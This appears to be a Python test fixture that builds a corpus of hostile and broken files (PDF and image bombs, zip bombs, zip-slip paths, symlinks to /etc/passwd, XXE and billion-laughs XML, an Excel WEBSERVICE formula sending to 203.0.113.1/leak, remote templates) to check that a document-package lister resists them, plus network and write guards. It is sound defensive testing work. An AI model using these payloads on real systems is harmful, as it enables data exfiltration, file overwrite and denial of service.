"""Builds the corpus of hostile and broken inputs in a temporary folder.

Each :class:`Case` is a package (a folder holding the bad file, or a zip) plus what the
listing must say about it. The corpus is built from code, never stored, so it
stays small in git; tests/regressions/ keeps only crash inputs found by fuzzing.
Also the guards the corpus tests run under: sockets blocked, writes outside the
allowed folders recorded, and a snapshot of a tree (hashes and mtimes).
"""
from __future__ import annotations

import hashlib
import io
import os
import socket
import struct
import sys
import zipfile
import zlib
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterator

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

_BUILDERS: list[tuple[str, Callable[[Path], Path], frozenset[str]]] = []


@dataclass(frozen=True)
class Case:
    name: str
    package: Path
    home: Path  # the folder that holds the package and nothing else
    # finding codes the listing must give; "InputError" when the package cannot be opened
    expect: frozenset[str] = field(default_factory=frozenset)


def case(name: str, *expect: str) -> Callable:
    def register(builder: Callable[[Path], Path]) -> Callable[[Path], Path]:
        _BUILDERS.append((name, builder, frozenset(expect)))
        return builder
    return register


def build_corpus(root: Path, only: set[str] | None = None) -> list[Case]:
    cases = []
    for name, builder, expect in _BUILDERS:
        if only is None or name in only:
            folder = root / name
            folder.mkdir(parents=True)
            cases.append(Case(name, builder(folder), folder, expect))
    return cases


_BUILT: dict[str, dict[str, Case]] = {}


def shared_corpus(tmp_path_factory) -> dict[str, Case]:
    """The whole corpus, built once per test session (several test modules use it)."""
    base = str(tmp_path_factory.getbasetemp())
    if base not in _BUILT:
        _BUILT[base] = {case.name: case for case in build_corpus(tmp_path_factory.mktemp("corpus"))}
    return _BUILT[base]


def case_names() -> list[str]:
    return [name for name, _, _ in _BUILDERS]


# ---------------------------------------------------------------- small file makers

def pdf_bytes(pages: int = 1, text: str = "Business licence 91370600MA3C000000") -> bytes:
    from reportlab.pdfgen.canvas import Canvas
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    for number in range(pages):
        canvas.drawString(72, 720, f"{text} page {number + 1}")
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def jpeg_bytes(size: tuple[int, int] = (64, 48)) -> bytes:
    from PIL import Image
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, "JPEG")
    return buffer.getvalue()


def docx_bytes(text: str = "医疗机构执业许可证") -> bytes:
    import docx
    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph(text)
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes(build: Callable | None = None) -> bytes:
    import openpyxl
    workbook = openpyxl.Workbook()
    workbook.active.append(["序号", "姓名", "身份证号"])
    workbook.active.append([1, "张三", "370602199001011234"])
    if build:
        build(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def gbk_zip_bytes(entries: dict[str, bytes]) -> bytes:
    """A zip as Windows Chinese tools write it: names in GBK, no UTF-8 flag."""
    placeholders = {chr(ord("a") + index) * len(name.encode("gbk")): name for index, name in enumerate(entries)}
    data = zip_bytes({key: entries[name] for key, name in placeholders.items()})
    for key, name in placeholders.items():
        data = data.replace(key.encode("ascii"), name.encode("gbk"))
    return data


def replace_part(data: bytes, part: str, content: bytes) -> bytes:
    """An Office file with one part replaced (or added)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    parts = {info.filename: source.read(info) for info in source.infolist()}
    parts[part] = content
    return zip_bytes(parts)


def patch_zip_flags(data: bytes, bit: int) -> bytes:
    """Sets a general-purpose flag bit on every local and central header (bit 0: encrypted)."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := out.find(signature, start)) >= 0:
            flags = struct.unpack_from("<H", out, at + offset)[0]
            struct.pack_into("<H", out, at + offset, flags | bit)
            start = at + 4
    return bytes(out)


def write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return folder


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://203.0.113.1/x">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
<w:t>&xxe;&net;</w:t></w:r></w:p></w:body></w:document>"""


# ---------------------------------------------------------------- PDFs

@case("pdf_truncated")
def _pdf_truncated(folder: Path) -> Path:
    data = pdf_bytes(3)
    return write(folder, "营业执照.pdf", data[: len(data) // 2])


@case("pdf_corrupt")
def _pdf_corrupt(folder: Path) -> Path:
    data = bytearray(pdf_bytes(2))
    data[200:600] = os.urandom(400)
    return write(folder, "许可证.pdf", bytes(data))


@case("pdf_header_only")
def _pdf_header_only(folder: Path) -> Path:
    return write(folder, "a.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50)


@case("pdf_broken_xref")
def _pdf_broken_xref(folder: Path) -> Path:
    data = pdf_bytes(2)
    at = data.rfind(b"startxref")
    return write(folder, "xref.pdf", data[:at] + b"startxref\n999999999\n%%EOF\n")


@case("pdf_no_xref")
def _pdf_no_xref(folder: Path) -> Path:
    data = pdf_bytes(2)
    return write(folder, "noxref.pdf", data[: data.rfind(b"xref")])


def _encrypted_pdf(user_password: str) -> bytes:
    from pypdf import PdfReader, PdfWriter
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(1))))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


@case("pdf_encrypted_empty_user_password")
def _pdf_encrypted_empty(folder: Path) -> Path:
    return write(folder, "enc_empty.pdf", _encrypted_pdf(""))


@case("pdf_encrypted_real_password")
def _pdf_encrypted_real(folder: Path) -> Path:
    return write(folder, "enc.pdf", _encrypted_pdf("user-secret"))


@case("pdf_many_pages")
def _pdf_many_pages(folder: Path) -> Path:
    from pypdf import PdfWriter
    writer = PdfWriter()
    for _ in range(3000):
        writer.add_blank_page(595, 842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return write(folder, "many.pdf", buffer.getvalue())


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF from object bodies (1-based numbers), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


@case("pdf_lying_page_count")
def _pdf_lying_count(folder: Path) -> Path:
    return write(folder, "count.pdf", raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]))


@case("pdf_deep_nesting")
def _pdf_deep_nesting(folder: Path) -> Path:
    depth = 100_000
    return write(folder, "deep.pdf", raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length 10 >>\nstream\n" + b"(" * 10 + b"\nendstream",
    ]))


@case("pdf_page_tree_loop")
def _pdf_page_tree_loop(folder: Path) -> Path:
    return write(folder, "loop.pdf", raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ]))


@case("pdf_stream_bomb")
def _pdf_stream_bomb(folder: Path) -> Path:
    content = zlib.compress(b"0 0 m " * 20_000_000, 9)  # 120 MB of drawing operators in ~120 KB
    return write(folder, "bomb.pdf", raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content + b"\nendstream",
    ]))


# ---------------------------------------------------------------- images

def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@case("image_png_bomb")
def _png_bomb(folder: Path) -> Path:
    header = struct.pack(">IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (60001 * 200), 9)
    data = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")
    return write(folder, "照片.png", data)


@case("image_jpeg_bomb")
def _jpeg_bomb(folder: Path) -> Path:
    data = bytearray(jpeg_bytes((16, 16)))
    at = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, 65000, 65000)
    return write(folder, "scan.jpg", bytes(data))


@case("image_bmp_huge_header")
def _bmp_bomb(folder: Path) -> Path:
    header = b"BM" + struct.pack("<IHHI", 54 + 16, 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, 100000, 100000, 1, 24, 0, 16, 2835, 2835, 0, 0)
    return write(folder, "scan.bmp", header + info + b"\x00" * 16)


@case("image_gif_bomb")
def _gif_bomb(folder: Path) -> Path:
    from PIL import Image
    buffer = io.BytesIO()
    Image.new("P", (4, 4)).save(buffer, "GIF")
    data = bytearray(buffer.getvalue())
    struct.pack_into("<HH", data, 6, 65535, 65535)  # logical screen
    at = data.find(b"\x2c")  # image descriptor
    struct.pack_into("<HH", data, at + 5, 65535, 65535)
    return write(folder, "scan.gif", bytes(data))


@case("image_tiff_bomb")
def _tiff_bomb(folder: Path) -> Path:
    entries = [(256, 4, 1, 200_000), (257, 4, 1, 200_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, 200_000), (279, 4, 1, 16)]
    ifd = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHII" if kind == 4 else "<HHIHxx", tag, kind, count, value) for tag, kind, count, value in entries)
    data = b"II*\x00" + struct.pack("<I", 24) + b"\x00" * 16 + ifd + b"\x00\x00\x00\x00"
    return write(folder, "scan.tif", data)


@case("image_truncated_png")
def _png_truncated(folder: Path) -> Path:
    from PIL import Image
    buffer = io.BytesIO()
    Image.effect_noise((400, 400), 50).save(buffer, "PNG")
    return write(folder, "photo.png", buffer.getvalue()[:3000])


# ---------------------------------------------------------------- zips

@case("zip_bomb_ratio", "unsafe_archive_entry")
def _zip_bomb(folder: Path) -> Path:
    path = folder / "package.zip"
    path.write_bytes(zip_bytes({"a.pdf": pdf_bytes(), "bomb.pdf": b"\x00" * (64 << 20)}))
    return path


@case("zip_bomb_nested", "unsafe_archive_entry")
def _zip_bomb_nested(folder: Path) -> Path:
    layer = zip_bytes({f"{n}.bin": b"\x00" * (8 << 20) for n in range(4)})
    middle = zip_bytes({f"m{n}.zip": layer for n in range(4)})
    path = folder / "package.zip"
    path.write_bytes(zip_bytes({f"outer{n}.zip": middle for n in range(4)} | {"ok.pdf": pdf_bytes()}))
    return path


@case("zip_lying_sizes", "unreadable_file")
def _zip_lying_sizes(folder: Path) -> Path:
    data = bytearray(zip_bytes({"big.pdf": pdf_bytes(20)}))
    at = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 100)  # central directory: uncompressed size
    at = data.find(b"PK\x03\x04")
    struct.pack_into("<I", data, at + 22, 100)
    path = folder / "package.zip"
    path.write_bytes(bytes(data))
    return path


@case("zip_slip", "unsafe_archive_entry")
def _zip_slip(folder: Path) -> Path:
    path = folder / "package.zip"
    path.write_bytes(zip_bytes({
        "../../evil.pdf": pdf_bytes(), "/etc/cron.d/evil": b"* * * * * root true\n",
        "C:/Windows/evil.pdf": pdf_bytes(), "ok/../../x.pdf": pdf_bytes(),
        "..\\..\\win.pdf": pdf_bytes(), "\\\\server\\share\\x.pdf": pdf_bytes(), "good.pdf": pdf_bytes(),
    }))
    return path


@case("zip_symlink_entry", "unsafe_archive_entry")
def _zip_symlink(folder: Path) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link.pdf")
        info.external_attr = (0o120777 << 16)
        archive.writestr(info, "/etc/passwd")
        archive.writestr("good.pdf", pdf_bytes())
    path = folder / "package.zip"
    path.write_bytes(buffer.getvalue())
    return path


@case("zip_encrypted", "InputError")
def _zip_encrypted(folder: Path) -> Path:
    path = folder / "package.zip"
    path.write_bytes(patch_zip_flags(zip_bytes({"a.pdf": pdf_bytes()}), 0x1))
    return path


@case("zip_encrypted_inner", "encrypted_file")
def _zip_encrypted_inner(folder: Path) -> Path:
    inner = patch_zip_flags(zip_bytes({"a.pdf": pdf_bytes()}), 0x1)
    return write(folder, "材料.zip", inner)


@case("zip_truncated", "InputError")
def _zip_truncated(folder: Path) -> Path:
    data = zip_bytes({"a.pdf": pdf_bytes(), "b.pdf": pdf_bytes(2)})
    path = folder / "package.zip"
    path.write_bytes(data[: len(data) - 40])
    return path


@case("zip_garbage", "InputError")
def _zip_garbage(folder: Path) -> Path:
    path = folder / "package.zip"
    path.write_bytes(b"PK\x03\x04" + os.urandom(2000))
    return path


@case("zip_many_entries", "unsafe_archive_entry")
def _zip_many(folder: Path) -> Path:
    path = folder / "package.zip"
    path.write_bytes(zip_bytes({f"f{n:05d}.txt": b"x" for n in range(2500)}, zipfile.ZIP_STORED))
    return path


@case("zip_gbk_names")
def _zip_gbk(folder: Path) -> Path:
    path = folder / "申报材料.zip"
    path.write_bytes(gbk_zip_bytes({"1.营业执照.pdf": pdf_bytes(), "附件3：从业人员名册.xlsx": xlsx_bytes()}))
    return path


@case("zip_bad_crc", "unreadable_file")
def _zip_bad_crc(folder: Path) -> Path:
    data = bytearray(zip_bytes({"a.pdf": pdf_bytes()}, zipfile.ZIP_STORED))
    at = data.find(b"%PDF")
    data[at + 20] ^= 0xFF
    path = folder / "package.zip"
    path.write_bytes(bytes(data))
    return path


# ---------------------------------------------------------------- folders and names

@case("symlinks_out", "unsafe_archive_entry")
def _symlinks(folder: Path) -> Path:
    write(folder, "good.pdf", pdf_bytes())
    (folder / "passwd.pdf").symlink_to("/etc/passwd")
    (folder / "root").symlink_to("/")
    (folder / "dangling.pdf").symlink_to(folder / "nowhere")
    return folder


@case("fifo", "unsafe_archive_entry")
def _fifo(folder: Path) -> Path:
    write(folder, "good.pdf", pdf_bytes())
    os.mkfifo(folder / "pipe.pdf")
    return folder


@case("zero_byte_files", "empty_file")
def _zero_bytes(folder: Path) -> Path:
    for name in ("empty.pdf", "empty.docx", "空白.jpg"):
        write(folder, name, b"")
    return folder


@case("wrong_extensions", "wrong_extension")
def _wrong_extensions(folder: Path) -> Path:
    write(folder, "营业执照.pdf", jpeg_bytes())
    write(folder, "制度.xlsx", docx_bytes())
    write(folder, "名册.docx", pdf_bytes())
    return folder


@case("non_utf8_names")
def _non_utf8(folder: Path) -> Path:
    root = os.fsencode(folder)
    for raw in ("营业执照.pdf".encode("gbk"), b"\xff\xfe\xfd.pdf", "许可证".encode("gbk") + b"/a.pdf"):
        target = os.path.join(root, raw)
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as stream:
            stream.write(pdf_bytes())
    return folder


@case("control_chars_in_names")
def _control_chars(folder: Path) -> Path:
    write(folder, "line\nbreak.pdf", pdf_bytes())
    write(folder, "bell\x07.pdf", pdf_bytes(2))
    return write(folder, "names.zip", zip_bytes({"a\nb.pdf": pdf_bytes(3), "\x1b[2Jclear.pdf": pdf_bytes(4),
                                                 "report\u202efdp.exe": pdf_bytes(5)}))


@case("folder_10000_files", "unsafe_archive_entry")
def _many_files(folder: Path) -> Path:
    first = write(folder, "00000.txt", b"x") / "00000.txt"
    for n in range(1, 10_000):
        os.link(first, folder / f"{n:05d}.txt")  # hard links: a tenth of the time of writing files
    return folder


@case("os_litter")
def _litter(folder: Path) -> Path:
    write(folder, "good.pdf", pdf_bytes())
    for name in ("Thumbs.db", ".DS_Store", "desktop.ini", "~$制度.docx", "__MACOSX/._good.pdf", "._good.pdf"):
        write(folder, name, b"\x00\x01junk")
    return folder


# ---------------------------------------------------------------- Office files

@case("xlsx_formulas_hidden_sheets")
def _xlsx_formulas(folder: Path) -> Path:
    def build(workbook):
        sheet = workbook.active
        sheet["E1"] = "=SUM(A1:A3)"
        sheet["E2"] = '=WEBSERVICE("http://203.0.113.1/leak")'
        sheet["E3"] = '=HYPERLINK("http://203.0.113.1","x")'
        workbook.create_sheet("hidden").sheet_state = "hidden"
        workbook.create_sheet("very").sheet_state = "veryHidden"
    return write(folder, "名册.xlsx", xlsx_bytes(build))


@case("xlsx_external_link")
def _xlsx_external(folder: Path) -> Path:
    data = xlsx_bytes(lambda wb: wb.active.__setitem__("E1", "='[other.xlsx]Sheet1'!A1"))
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>'
            b'</externalLink>')
    rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'externalLinkPath" Target="http://203.0.113.1/other.xlsx" TargetMode="External"/></Relationships>')
    data = replace_part(data, "xl/externalLinks/externalLink1.xml", link)
    return write(folder, "名册.xlsx", replace_part(data, "xl/externalLinks/_rels/externalLink1.xml.rels", rels))


@case("xlsm_macros")
def _xlsm(folder: Path) -> Path:
    data = xlsx_bytes()
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    data = replace_part(data, "[Content_Types].xml", types)
    return write(folder, "名册.xlsm", replace_part(data, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504))


@case("xlsx_billion_laughs")
def _xlsx_laughs(folder: Path) -> Path:
    bomb = BILLION_LAUGHS.replace(b"<w:document", b"<sst").split(b"<sst")[0] + \
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'
    return write(folder, "名册.xlsx", replace_part(xlsx_bytes(), "xl/sharedStrings.xml", bomb))


@case("docx_billion_laughs")
def _docx_laughs(folder: Path) -> Path:
    return write(folder, "制度.docx", replace_part(docx_bytes(), "word/document.xml", BILLION_LAUGHS))


@case("docx_xxe")
def _docx_xxe(folder: Path) -> Path:
    return write(folder, "制度.docx", replace_part(docx_bytes(), "word/document.xml", XXE))


ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def _docx_with(relate: Callable) -> bytes:
    import docx
    document = docx.Document(io.BytesIO(docx_bytes()))
    relate(document)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@case("docx_external_relationships")
def _docx_external(folder: Path) -> Path:
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    data = _docx_with(lambda d: (d.part.relate_to("http://203.0.113.1/a.png", RT.IMAGE, is_external=True),
                                 d.part.relate_to("http://203.0.113.1/", RT.HYPERLINK, is_external=True)))
    return write(folder, "制度.docx", data)


@case("docx_remote_template")
def _docx_remote_template(folder: Path) -> Path:
    from docx.oxml.ns import qn
    from docx.oxml import OxmlElement

    def relate(document):
        settings = document.part._settings_part
        rid = settings.relate_to("http://203.0.113.1/t.dotm", ATTACHED_TEMPLATE, is_external=True)
        element = OxmlElement("w:attachedTemplate")
        element.set(qn("r:id"), rid)
        settings.element.insert(0, element)
    return write(folder, "制度.docx", _docx_with(relate))


def ole_bytes(*streams: str) -> bytes:
    """A minimal OLE2 container whose first directory sector names ``streams``."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<H", header, 30, 9)  # 512-byte sectors
    struct.pack_into("<I", header, 48, 0)  # the directory starts at sector 0
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)
    return bytes(header) + directory.ljust(512, b"\0")


@case("office_password_protected", "encrypted_file")
def _office_encrypted(folder: Path) -> Path:
    write(folder, "制度.docx", ole_bytes("Root Entry", "EncryptionInfo", "EncryptedPackage"))
    return write(folder, "名册.zip", zip_bytes({"名册.xlsx": ole_bytes("EncryptionInfo", "EncryptedPackage")}))


@case("docx_truncated")
def _docx_truncated(folder: Path) -> Path:
    data = docx_bytes()
    return write(folder, "制度.docx", data[: len(data) * 2 // 3])


# ---------------------------------------------------------------- fuzzing

# DINGDIAN_FUZZ_EXAMPLES=5000 for a long hunt; CI runs the default.
FUZZ = settings(max_examples=int(os.environ.get("DINGDIAN_FUZZ_EXAMPLES", "60")), deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@st.composite
def mutations(draw: Callable, data: bytes) -> bytes:
    """``data`` with a few random edits: byte overwrites, a cut, a zeroed or repeated span."""
    out = bytearray(data)
    for _ in range(draw(st.integers(1, 6))):
        if not out:
            break
        kind = draw(st.sampled_from(["byte", "byte", "cut", "zero", "repeat"]))
        at = draw(st.integers(0, len(out) - 1))
        if kind == "byte":
            out[at] = draw(st.integers(0, 255))
        elif kind == "cut":
            del out[at:]
        elif kind == "zero":
            end = at + draw(st.integers(1, 64))
            out[at:end] = bytes(len(out[at:end]))
        else:
            span = out[at:at + draw(st.integers(1, 256))]
            out[at:at] = span * draw(st.integers(1, 4))
    return bytes(out)


# ---------------------------------------------------------------- guards

def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry below root (root included) without following links: content hash, size,
    mtime_ns and mode, so any change to the package shows."""
    result = {}
    for folder, dirs, files in os.walk(root, followlinks=False):
        for name in [".", *dirs, *files]:
            path = os.path.join(folder, name)
            status = os.lstat(path)
            digest = ""
            if os.path.isfile(path) and not os.path.islink(path):
                with open(path, "rb") as stream:
                    digest = hashlib.sha256(stream.read()).hexdigest()
            result[os.path.relpath(path, root)] = (digest, status.st_size, status.st_mtime_ns, status.st_mode)
    return result


class NetworkBlocked(RuntimeError):
    pass


def block_sockets(monkeypatch) -> None:
    """Any attempt to open a socket or resolve a name raises NetworkBlocked."""
    def refuse(*args, **kwargs):
        raise NetworkBlocked("network access attempted")

    class RefusedSocket(socket.socket):  # a class, not a function: libraries imported meanwhile subclass it (PySocks)
        def __init__(self, *args, **kwargs):
            refuse()

    monkeypatch.setattr(socket, "socket", RefusedSocket)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@contextmanager
def guarded(monkeypatch, allowed: Path) -> Iterator["WriteRecorder"]:
    """Sockets blocked and writes outside ``allowed`` recorded for the duration."""
    block_sockets(monkeypatch)
    recorder = WriteRecorder.instance()
    recorder.allowed, recorder.violations, recorder.active = [str(allowed)], [], True
    try:
        yield recorder
    finally:
        recorder.active = False


class WriteRecorder:
    """Records (with an audit hook) every file opened for writing, created, moved or removed
    outside the allowed folders while ``active``."""

    _installed: "WriteRecorder | None" = None

    def __init__(self) -> None:
        self.allowed: list[str] = []
        self.active = False
        self.violations: list[str] = []

    @classmethod
    def instance(cls) -> "WriteRecorder":
        if cls._installed is None:
            cls._installed = cls()
            sys.addaudithook(cls._installed._hook)
        return cls._installed

    def _hook(self, event: str, args: tuple) -> None:
        if not self.active:
            return
        path = None
        if event == "open" and args and isinstance(args[0], (str, bytes, os.PathLike)):
            mode, flags = args[1], args[2] if len(args) > 2 else 0
            writing = (isinstance(mode, str) and any(c in mode for c in "wax+")) or \
                (isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
            path = args[0] if writing else None
        elif event == "os.mkdir" and args and not os.path.isdir(args[0]):  # mkdir(exist_ok=True) is a no-op
            path = args[0]
        elif event in ("os.rename", "os.remove", "os.rmdir", "shutil.rmtree", "os.truncate", "os.utime",
                       "os.chmod"):
            path = args[0] if args else None
        if path is not None and not isinstance(path, int):
            text = os.fsdecode(path) if isinstance(path, bytes) else str(path)
            if text != os.devnull and not any(os.path.abspath(text).startswith(root) for root in self.allowed):
                self.violations.append(f"{event} {text}")
